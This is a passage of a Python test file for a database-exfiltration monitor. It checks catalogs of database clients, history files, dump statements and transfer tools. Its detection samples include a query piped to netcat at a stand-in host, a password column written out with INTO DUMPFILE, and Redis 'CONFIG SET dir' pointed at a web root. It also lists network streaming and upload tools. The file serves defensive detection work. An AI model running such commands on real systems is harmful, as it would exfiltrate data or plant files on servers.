        ("/tmp/dir.sql/inner", ""),
        ("", ""),
        ("x.sql", "strong"),
    ],
)
def test_dump_suffix_strength(path: str, strength: str) -> None:
    assert catalog.dump_suffix_strength(path) == strength


def test_dump_suffix_strength_long_compression_chain_terminates() -> None:
    assert catalog.dump_suffix_strength("/tmp/x.sql" + ".gz" * 5000) == "strong"
    assert catalog.dump_suffix_strength(".gz" * 5000) == ""


# ---------------------------------------------------------------------------
# Tool knowledge lives here: engine records, option specs, dump statements, history files


def test_every_engine_has_one_record() -> None:
    engines = list(catalog.Engine.__args__)  # type: ignore[attr-defined]
    assert [e.engine for e in catalog.ENGINES] == engines
    for info in catalog.ENGINES:
        for source in info.history:
            assert source.engine == info.engine, source
    assert catalog.engine_info("no-such-engine") is catalog.ENGINES_BY_NAME["generic"]


def test_every_tool_spec_is_its_own_or_its_engines() -> None:
    for tool in catalog.DB_TOOLS:
        spec = catalog.option_spec(tool)
        assert spec is (tool.options or catalog.ENGINES_BY_NAME[tool.engine].options)
        # a positional role list is understood by the parser
        assert set(spec.positional) | set(spec.dump_positional) <= set(catalog.PositionalRole.__args__), tool  # type: ignore[attr-defined]
        assert not set(spec.secret) & set(spec.flags), tool  # an option is a secret's or a flag, never both


def test_history_sources_unique_and_named_by_a_catalog_client() -> None:
    paths = [s.path for s in catalog.HISTORY_SOURCES]
    assert not _duplicates(paths)
    for source in catalog.HISTORY_SOURCES:
        tool = catalog.DB_TOOLS_BY_NAME[source.tool]
        assert tool.engine == source.engine, source
    # the engine's first source names its client for files outside the list
    assert catalog.history_tool("postgres") == "psql" and catalog.history_tool("mongo") == "mongosh"
    assert catalog.history_tool("duckdb") == "duckdb" and catalog.history_tool("mssql") == ""
    assert catalog.history_tool("no-such-engine") == ""


# One text per dump statement: a statement added without a sample fails here.
DUMP_SAMPLES: dict[str, tuple[str, str]] = {
    "INTO OUTFILE": ("select * from t into outfile '/tmp/a.csv'", "/tmp/a.csv"),
    "INTO DUMPFILE": ("select pw from t into dumpfile '/tmp/a.bin'", "/tmp/a.bin"),
    "\\o program": ("\\o |gzip > /tmp/x.gz", ""),
    "\\g program": ("select 1 \\g |nc e.example 4444", ""),
    "\\o": ("\\o /tmp/o.txt", "/tmp/o.txt"),
    "\\g": ("select 1 \\g (format=csv) /tmp/g.csv", "/tmp/g.csv"),
    "tee": ("tee /tmp/tee.log", "/tmp/tee.log"),
    "pager": ("pager cat > /tmp/p.txt", "/tmp/p.txt"),
    ".output": (".once /tmp/once.csv", "/tmp/once.csv"),
    "EXPORT INTO": ("EXPORT INTO CSV 'nodelocal://1/x' FROM TABLE t", "nodelocal://1/x"),
    ":out": (":out /tmp/out.txt", "/tmp/out.txt"),
    "lo_export": ("select lo_export(42, '/tmp/lo.bin')", "/tmp/lo.bin"),
    ".dump": (".dump", ""),
    "writeFile": ("fs.writeFileSync('/tmp/m.json', x)", "/tmp/m.json"),
    "CONFIG SET dir": ("CONFIG SET dir /var/www/html", "/var/www/html"),
    "SAVE": ("BGSAVE", ""),
}


def test_every_dump_statement_has_a_sample_that_finds_it() -> None:
    from osq_dbwatch.cmdline import sql_dump_intent

    assert sorted(DUMP_SAMPLES) == sorted(s.intent for s in catalog.DUMP_STATEMENTS)
    for statement in catalog.DUMP_STATEMENTS:
        text, path = DUMP_SAMPLES[statement.intent]
        found = sql_dump_intent(text)
        assert found is not None and (found.intent, found.path) == (statement.intent, path), statement.intent
        assert statement.engines and set(statement.engines) <= {e.engine for e in catalog.ENGINES}
        assert catalog.dump_statement_engines(statement.intent) == statement.engines
    assert "duckdb" in catalog.dump_statement_engines("COPY TO")
    assert "duckdb" in catalog.dump_statement_engines(".output")


def test_transfer_tool_data_the_correlator_reads() -> None:
    # the values engine.py spelled before they moved here (WEB_TRANSFER_TOOLS, _COMPRESSORS)
    assert catalog.WEB_TRANSFER_TOOLS == {"curl", "wget", "aws", "gsutil", "az", "azcopy", "gcloud", "rclone", "s3cmd",
                                          "mc"}
    assert catalog.COMPRESSOR_SUFFIXES == {"gzip": ".gz", "pigz": ".gz", "bzip2": ".bz2", "xz": ".xz", "zstd": ".zst"}
    assert catalog.STREAM_TRANSFER_TOOLS == {"nc", "ncat", "netcat", "socat"}
    assert catalog.BUNDLED_OUTPUT_TOOLS == {"tar"} and catalog.PREFIX_OUTPUT_TOOLS == {"split"}
    for name in catalog.COMPRESSOR_SUFFIXES:
        assert catalog.TRANSFER_TOOLS_BY_NAME[name].kind == "staging"
        assert catalog.COMPRESSOR_SUFFIXES[name] in catalog.COMPRESSION_SUFFIXES


def test_password_tools_refer_to_catalog_tools() -> None:
    for tool in catalog.PASSWORD_TOOLS:
        assert tool.name not in catalog.DB_TOOLS_BY_NAME and tool.name not in catalog.TRANSFER_TOOLS_BY_NAME
        assert not tool.like or tool.like in catalog.DB_TOOLS_BY_NAME or tool.like in catalog.TRANSFER_TOOLS_BY_NAME
    for _, family in catalog.PASSWORD_FAMILY_PREFIXES:
        assert family in catalog.DB_TOOLS_BY_NAME


def _string_constants(path: str) -> set[str]:
    with open(path) as handle:
        tree = ast.parse(handle.read())
    return {n.value for n in ast.walk(tree) if isinstance(n, ast.Constant) and isinstance(n.value, str)}


def test_cmdline_has_no_per_engine_or_per_tool_ladder() -> None:
    """cmdline.py parses with catalog records only: it names no DB, transfer, password or wrapper program, no engine."""
    names = ({t.name for t in catalog.DB_TOOLS} | {t.name for t in catalog.TRANSFER_TOOLS}
             | {t.name for t in catalog.PASSWORD_TOOLS} | {w.name for w in catalog.WRAPPERS}
             | {e.engine for e in catalog.ENGINES})
    spelled = _string_constants(os.path.join(SRC, "cmdline.py")) & names
    assert spelled == set(), spelled


def test_correlator_spells_no_tool_or_history_file() -> None:
    names = {t.name for t in catalog.DB_TOOLS} | {t.name for t in catalog.TRANSFER_TOOLS}
    names |= {s.path for s in catalog.HISTORY_SOURCES} | {s.path.rsplit("/", 1)[-1] for s in catalog.HISTORY_SOURCES}
    spelled: dict[str, set[str]] = {}
    for path in sorted(glob.glob(os.path.join(SRC, "correlate", "*.py"))):
        found = _string_constants(path) & names
        if found:
            spelled[os.path.basename(path)] = found
    assert spelled == {}
